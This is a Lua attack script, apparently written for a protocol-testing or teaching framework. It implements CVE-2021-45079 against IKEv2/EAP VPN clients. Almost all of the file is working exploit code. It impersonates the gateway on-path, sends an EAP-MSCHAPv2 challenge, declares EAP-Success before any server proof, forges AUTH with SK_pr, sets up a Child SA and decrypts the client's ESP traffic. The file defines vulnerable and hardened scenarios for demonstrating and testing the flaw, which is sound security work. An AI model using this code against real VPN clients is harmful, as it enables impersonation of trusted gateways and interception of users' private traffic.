-- Where a gateway proves itself by EAP alone (RFC 5998), the proof is in the middle of the method: the server shows that it knows the password too.
-- EAP-Success is only the word that it is over. A client that takes the word for the proof believes whoever says it.
attack = {
  id = "CVE-2021-45079", name = "success-too-soon",
  about = "Answers in the gateway's place, asks by EAP, and says EAP-Success before anything is proven",
  position = "on-path",
  needs = "to answer instead of the gateway; no secret, no certificate",
  source = "CVE-2021-45079; RFC 3748, 4.2; RFC 5998, 3",
  shows = {
    vulnerable = "the client believes it has reached its gateway, and sends its traffic to a stranger",
    hardened = "Success before the method's end is no success: the client ends the conversation",
  },
  scenarios = { vulnerable = "success-too-soon", hardened = "success-too-soon-patched" },
}

-- Parameters: id = the gateway's name
local p, me, child = nil, nil, nil
local goal = "be the gateway without knowing a secret"
local read = 0

function on_start(params)
  p = params
  assert(p.id, "parameter id")
end

local function reply(packet, payload, note)
  inject{ src = packet.dst, src_port = packet.dst_port, dst = packet.src, dst_port = packet.src_port, protocol = "IKE", to = packet.from,
    payload = payload, note = note }
end
local function answer(packet, message, payloads, note)
  reply(packet, ike.seal({ spi_i = message.spi_i, spi_r = me.spi, exchange = message.exchange, response = true, initiator = false,
    message_id = message.message_id, payloads = payloads }, me.suite, me.keys), note)
end

local function begin(packet, message)
  local proposal = ike.choose(find(message, "SA").proposals[1])
  local ke = find(message, "KE")
  local pair = crypto.key_pair{ id = ke.method }
  me = { suite = ike.suite(proposal), nonce = crypto.random(32), ni = find(message, "Ni/Nr").data, spi = bytes.hex(crypto.random(8)) }
  me.keys = ike.keys(me.suite, { ni = me.ni, nr = me.nonce, shared = crypto.shared(pair, ke.data), spi_i = message.spi_i, spi_r = me.spi })
  me.response = ike.encode{ spi_i = message.spi_i, spi_r = me.spi, exchange = 34, response = true, initiator = false, message_id = 0,
    payloads = { ike.sa(proposal), ike.ke(pair), ike.nonce(me.nonce) } }
  me.id = ike.id("r", 2, p.id)
  reply(packet, me.response, "IKE_SA_INIT answered in the gateway's place")
end

-- IKE_AUTH 1: the gateway's name, no proof, and the challenge that any server begins with.
local function ask(packet, message, inner)
  me.offer = find(inner, "SA").proposals[1]
  local challenge = string.pack(">I1I1I2I1", 1, 7, 5 + 16 + 3, 16) .. crypto.random(16) .. "vpn"
  answer(packet, message, { me.id, { number = 48, body = eap.packet(1, 1, 26, challenge) } }, "IKE_AUTH: the name " .. p.id .. ", and a challenge of EAP-MSCHAPv2")
end

-- IKE_AUTH 2: whatever was answered, it is a success. The server's own proof, which would need the password, is left out.
local function succeed(packet, message)
  mark("mallory says EAP-Success, and has proven nothing.")
  answer(packet, message, { { number = 48, body = eap.packet(3, 1) } }, "EAP-Success, in the middle of the method")
end

-- IKE_AUTH 3: AUTH is made of the key that EAP gave. It gave none, and then it is SK_pr's (RFC 7296, 2.16), which every responder has.
local function finish(packet, message)
  local octets = ike.signed_octets(me.suite.prf, { message = me.response, nonce = me.ni, sk_p = me.keys.sk_pr, id = me.id.body })
  local esp_proposal = ike.choose(me.offer)
  child = { spi = bytes.hex(crypto.random(4)), suite = ike.suite(esp_proposal) }
  child.keys = ike.child_keys(me.suite.prf, child.suite, { sk_d = me.keys.sk_d, ni = me.ni, nr = me.nonce })
  esp_proposal.spi = bytes.from_hex(child.spi)
  ring.esp(child.spi, child.suite, child.keys.encr_i, child.keys.integ_i)
  answer(packet, message, { ike.auth(2, ike.psk_auth(me.suite.prf, me.keys.sk_pr, octets)), ike.sa(esp_proposal),
    ike.ts("i", p.client or "10.8.0.7", p.client or "10.8.0.7"), ike.ts("r", "10.2.0.0", "10.2.0.255") },
    "IKE_AUTH: AUTH made with SK_pr, and a Child SA")
end

on({ protocol = "IKE" }, function(packet, message)
  if message.response then return drop("the real gateway's, if any") end
  drop("meant for the gateway, kept")
  if message.exchange_name == "IKE_SA_INIT" then
    if not me then begin(packet, message) end
    return
  end
  local inner = me and message.spi_r == me.spi and ike.open(packet.payload, me.suite, me.keys)
  if not inner then return end
  if message.exchange_name == "INFORMATIONAL" then
    if notify_of(inner, "AUTHENTICATION_FAILED") and not me.over then
      me.over = true
      achieved(goal, false, "the client does not take Success for a proof, and ends the conversation")
    end
    return answer(packet, message, {}, "an empty answer")
  end
  if message.message_id == 1 then ask(packet, message, inner)
  elseif message.message_id == 2 then succeed(packet, message)
  elseif find(inner, "AUTH") then finish(packet, message) end
end)

on({ protocol = "ESP" }, function(packet)
  local plain = child and ring.open(packet)
  if not plain then return end
  drop("opened")
  read = read + 1
  if read > 1 then return end
  learn("plaintext", "a packet that the client meant for its office", "opened with the keys of a tunnel of mallory's own", plain.payload)
  achieved(goal, true, "the client's traffic comes to mallory, and opens")
end)

function on_finish()
  if read > 0 then say(read .. " packets of the client opened") return end
  if not (me and me.over) then achieved(goal, false, me and "no traffic came" or "no handshake came by") end
end
